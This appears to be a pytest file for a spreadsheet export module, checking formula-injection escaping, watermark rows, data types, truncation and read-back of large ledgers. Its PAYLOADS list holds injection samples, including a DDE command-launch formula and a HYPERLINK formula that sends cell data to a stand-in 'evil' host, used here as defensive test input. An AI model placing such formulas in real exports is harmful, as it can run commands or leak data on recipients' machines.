from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
import tablib

from congress.attachments.export import Column, safe_text, watermark, write_csv, write_xlsx
from congress.attachments.formats import SafeCSV, SafeXLSX
from congress.attachments.sheets import open_rows
from tests.congress.attachments import files

COLUMNS = [Column("编号", 20), Column("内容", 40)]
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
    "+1",
    "-1",
    "@x",
    "http://evil.example/",
    "0012",
    "1e5",
    "{=1+1}",
]


def as_xlsx(rows, columns=COLUMNS, **more):
    out = BytesIO()
    write_xlsx(out, columns, rows, **more)
    return out


def as_csv(rows, columns=COLUMNS, **more):
    out = BytesIO()
    write_csv(out, columns, rows, **more)
    return out.getvalue().decode("utf-8-sig")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_stays_a_text_in_a_workbook(payload):
    cell = openpyxl.load_workbook(as_xlsx([[1, payload]])).active["B2"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert cell.value == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS[:13])
def test_a_text_that_would_run_gets_an_apostrophe_in_csv(payload):
    assert safe_text(payload) == f"'{payload}"


def test_numbers_dates_and_yes_keep_their_kind():
    rows = [
        [7, "x"],
        [Decimal("-12.50"), True],
        [date(2026, 3, 1), datetime(2026, 3, 1, 1, 5, tzinfo=UTC)],
        [10**17, None],
    ]
    sheet = openpyxl.load_workbook(as_xlsx(rows)).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        [7, "x"],
        [-12.5, "是"],
        [datetime.fromisoformat("2026-03-01"), datetime.fromisoformat("2026-03-01 09:05")],
        ["100000000000000000", None],
    ]
    assert as_csv(rows).splitlines()[2:4] == ["-12.50,是", "2026-03-01,2026-03-01 09:05"]


def test_the_first_line_names_who_took_the_data_and_the_next_stays_in_sight():
    mark = watermark("李敏", datetime(2026, 3, 1, 1, 5, tzinfo=UTC))
    assert mark == "【导出记录】李敏 2026-03-01 09:05 导出，含工作信息，请妥善保管"
    sheet = openpyxl.load_workbook(as_xlsx([["1", "x"]], mark=mark, title="台账/2026")).active
    assert (sheet["A1"].value, sheet["A2"].value, sheet["A2"].font.bold) == (mark, "编号", True)
    assert (sheet.freeze_panes, sheet.title, sheet.column_dimensions["B"].width > 39) == (
        "A3",
        "台账2026",
        True,
    )
    assert as_csv([["1", "x"]], mark=mark).splitlines() == [mark, "编号,内容", "1,x"]


@pytest.mark.parametrize("form", [SafeXLSX, SafeCSV])
def test_what_was_exported_can_be_read_back(form):
    data = tablib.Dataset(["0012", "路灯\n坏了"], ["0013", "𫚉"], headers=["编号", "内容"])
    writer = form(mark=watermark("李敏", datetime(2026, 3, 1, tzinfo=UTC)))
    again = form().create_dataset(writer.export_data(data))
    assert (again.headers, list(again)) == (["编号", "内容"], [("0012", "路灯\n坏了"), ("0013", "𫚉")])


def test_signs_that_no_file_can_hold_are_left_out_and_long_texts_cut():
    sheet = openpyxl.load_workbook(as_xlsx([["a\x01\x0bb", "字" * 40_000]])).active
    assert (sheet["A2"].value, len(sheet["B2"].value) < 32_767) == ("ab", True)
    assert sheet["B2"].value.endswith("…（内容过长，已截断）")


def test_a_long_ledger_is_written_and_read_in_order():
    rows = ([f"MY-{n:06}", "内容"] for n in range(20_000))
    with open_rows(files.upload("a.xlsx", as_xlsx(rows).getvalue())) as read:
        numbers = [row[0] for row in read]
    assert (len(numbers), numbers[1], numbers[-1]) == (20_001, "MY-000000", "MY-019999")


def test_an_empty_ledger_has_its_headings():
    assert as_csv([]).splitlines() == ["编号,内容"]
    with open_rows(files.upload("a.xlsx", as_xlsx([]).getvalue())) as read:
        assert list(read) == [["编号", "内容"]]
